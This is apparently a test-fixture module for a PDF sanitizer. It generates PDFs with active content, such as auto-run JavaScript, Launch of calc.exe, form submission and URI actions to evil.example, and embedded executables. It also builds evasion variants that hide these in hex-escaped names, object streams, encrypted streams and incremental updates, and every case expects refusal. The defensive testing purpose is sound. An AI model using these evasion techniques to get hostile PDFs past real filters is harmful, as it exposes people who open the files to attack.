// PDFs that make a viewer run, open or send something: every kind, plain and hidden.
import { flate, onePage, pdfOf, stream, withObjectStream } from './raw-pdf.mjs';

const SCRIPT = 'app.alert(1)';

/** Each kind as an action, or as entries of the catalog or the page, with further objects. */
const KINDS = {
  javascript: { catalog: `/OpenAction << /S /JavaScript /JS (${SCRIPT}) >>` },
  'javascript-in-names': {
    catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${SCRIPT}) >>] >> >>`,
  },
  'javascript-of-page': { page: `/AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >>` },
  'javascript-of-link': {
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /JavaScript /JS (${SCRIPT}) >> >>]`,
  },
  'javascript-of-field': {
    catalog: `/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (${SCRIPT}) >> >> >>] >>`,
  },
  'javascript-after-goto': {
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (${SCRIPT}) >> >>`,
  },
  launch: { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' },
  'submit-form': { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' },
  'import-data': { catalog: '/OpenAction << /S /ImportData /F (a.fdf) >>' },
  'go-to-remote': { catalog: '/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>' },
  'go-to-embedded': { catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>' },
  'go-to-thread': { catalog: '/OpenAction << /S /Thread /F (other.pdf) /D 0 >>' },
  'uri-on-opening': { catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' },
  'uri-on-opening-elsewhere': {
    catalog: '/OpenAction 9 0 R',
    more: { 9: '<< /Type /Action /S /URI /URI (https://evil.example/) >>' },
  },
  'uri-after-goto': {
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>',
  },
  'uri-of-page': { page: '/AA << /O << /S /URI /URI (https://evil.example/) >> >>' },
  'stream-in-another-file': {
    page: '/Metadata 9 0 R',
    more: { 9: stream('/Type /Metadata /Subtype /XML /F (https://evil.example/a.xml)', '') },
  },
  rendition: { catalog: `/OpenAction << /S /Rendition /OP 0 /JS (${SCRIPT}) >>` },
  xfa: { catalog: '/AcroForm << /Fields [] /XFA 9 0 R >>', more: { 9: stream('', '<xdp:xdp/>') } },
  'rich-media': { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]' },
  movie: { page: '/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]' },
  '3d': { page: '/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>]' },
  'embedded-file': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>] >> >>',
    more: { 9: stream('/Type /EmbeddedFile', 'MZ') },
  },
  'attached-file': {
    page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a) /EF << /F 9 0 R >> >> >>]',
    more: { 9: stream('', 'MZ') },
  },
  portfolio: { catalog: '/Collection << /View /T >>' },
};

const isEmbedded = (kind) => ['embedded-file', 'attached-file', 'portfolio'].includes(kind);
const expected = (kind) => ({ outcome: 'refused', reason: isEmbedded(kind) ? 'embedded-files' : 'active-content' });

const objectsOf = ({ more = {}, ...entries }) => ({ ...onePage(entries), ...more });

/** A file's objects with catalog and page in an object stream. */
function hidden(kind, options) {
  const { 1: catalog, 3: page, ...visible } = objectsOf(KINDS[kind]);
  return withObjectStream({ 1: catalog, 3: page }, visible, options);
}

/** Writes a letter of every name as its number: /J#61vaScript. Names without which no reader finds a page stay. */
function withNumbers(text) {
  const needed =
    /^\/(Type|Catalog|Pages?|Parent|Kids|Count|MediaBox|Contents|Resources|Font|F1|Annots|Names|AcroForm|A|AA|S)$/;
  return text.replace(/\/[A-Za-z0-9]{2,}/g, (name) =>
    needed.test(name) ? name : `/${name[1]}#${name.charCodeAt(2).toString(16)}${name.slice(3)}`,
  );
}

const numbered = (objects) =>
  Object.fromEntries(
    Object.entries(objects).map(([number, object]) => [
      number,
      typeof object === 'string' ? withNumbers(object) : object,
    ]),
  );

const kinds = Object.keys(KINDS);

export const ACTIVE = [
  ...kinds.map((kind) => ({ name: kind, content: () => pdfOf(objectsOf(KINDS[kind])), ...expected(kind) })),
  ...kinds.map((kind) => ({
    name: `${kind}, names written as numbers`,
    content: () => pdfOf(numbered(objectsOf(KINDS[kind]))),
    ...expected(kind),
  })),
  ...kinds.map((kind) => ({ name: `${kind}, in an object stream`, content: () => hidden(kind), ...expected(kind) })),
  ...kinds.map((kind) => ({
    name: `${kind}, in an encrypted object stream`,
    content: () => hidden(kind, { encrypt: true }),
    ...expected(kind),
  })),
  { name: 'javascript, as a separate object', content: indirectName, ...expected('javascript') },
  { name: 'javascript, added by an update', content: updated, ...expected('javascript') },
  { name: 'javascript, replaced by an update', content: replaced, ...expected('javascript') },
  { name: 'javascript, compressed and replaced by an update', content: hiddenReplaced, ...expected('javascript') },
  { name: 'javascript, in a file cut short', content: () => cut(javascript()), ...expected('javascript') },
  { name: 'javascript, behind what looks like a stream', content: behindStream, ...expected('javascript') },
  { name: 'javascript, behind a string that looks like a stream', content: behindString, ...expected('javascript') },
  // No one can look into a damaged object stream, so it is refused, whatever is in it.
  { name: 'javascript, in an object stream of a file cut short', content: cutObjectStream, outcome: 'refused' },
];

const javascript = () => pdfOf(objectsOf(KINDS.javascript));
const cut = (file) => file.subarray(0, file.lastIndexOf('xref') - 40);

function indirectName() {
  const objects = onePage({ catalog: '/OpenAction << /S 9 0 R /JS (app.alert\\(1\\)) >>' });
  return withObjectStream(
    { 9: '/JavaScript', 1: objects[1] },
    { 2: objects[2], 3: objects[3], 4: objects[4], 5: objects[5] },
  );
}

function updated() {
  const first = pdfOf(onePage());
  const previous = first.lastIndexOf('xref\n0');
  const catalog = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${SCRIPT}) >> >>\nendobj\n`;
  const at = first.length + catalog.length;
  const table = `xref\n1 1\n${String(first.length).padStart(10, '0')} 00000 n \n`;
  return Buffer.concat([
    first,
    Buffer.from(`${catalog}${table}trailer\n<< /Size 6 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${at}\n%%EOF\n`),
  ]);
}

const PLAIN_CATALOG = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n';

/** A viewer that repairs the file may find the first catalog. */
function replaced() {
  const first = javascript();
  const previous = first.lastIndexOf('xref\n0');
  const at = first.length + PLAIN_CATALOG.length;
  const table = `xref\n1 1\n${String(first.length).padStart(10, '0')} 00000 n \n`;
  return Buffer.concat([
    first,
    Buffer.from(
      `${PLAIN_CATALOG}${table}trailer\n<< /Size 6 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  ]);
}

/** The script is only in the compressed objects of the first revision, which the present one does not use. */
function hiddenReplaced() {
  const first = hidden('javascript');
  const previous = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(first.toString('latin1'))[1];
  const at = first.length + PLAIN_CATALOG.length;
  const [table, rows] = [40, Buffer.alloc(14)];
  for (const [row, offset] of [first.length, at].entries()) {
    rows.writeUInt8(1, row * 7);
    rows.writeUInt32BE(offset, row * 7 + 1);
  }
  const entries = `/Type /XRef /Size ${table + 1} /Root 1 0 R /Prev ${previous} /W [1 4 2] /Index [1 1 ${table} 1] /Length 14`;
  return Buffer.concat([
    first,
    Buffer.from(`${PLAIN_CATALOG}${table} 0 obj\n<< ${entries} >>\nstream\n`),
    rows,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
  ]);
}

/** Written anew, an object that is only a name stands on a separate line, like the keyword. */
function behindStream() {
  const { 1: catalog, ...visible } = onePage({ catalog: '/OpenAction 8 0 R /X 7 0 R /Y 9 0 R' });
  const action = `<< /S /JavaScript /JS (${SCRIPT}) >>`;
  return withObjectStream({ 1: catalog, 7: '/stream', 8: action, 9: '/endstream' }, visible);
}

function behindString() {
  const { 1: catalog, ...visible } = onePage({
    catalog: `/A (stream\r\n) /OpenAction << /S /JavaScript /JS (${SCRIPT}) >> /B (endstream)`,
  });
  return withObjectStream({ 1: catalog }, visible);
}

function cutObjectStream() {
  const file = hidden('javascript');
  const holder = file.lastIndexOf('/ObjStm');
  return Buffer.concat([file.subarray(0, holder + 60), flate('', 'x').data]);
}
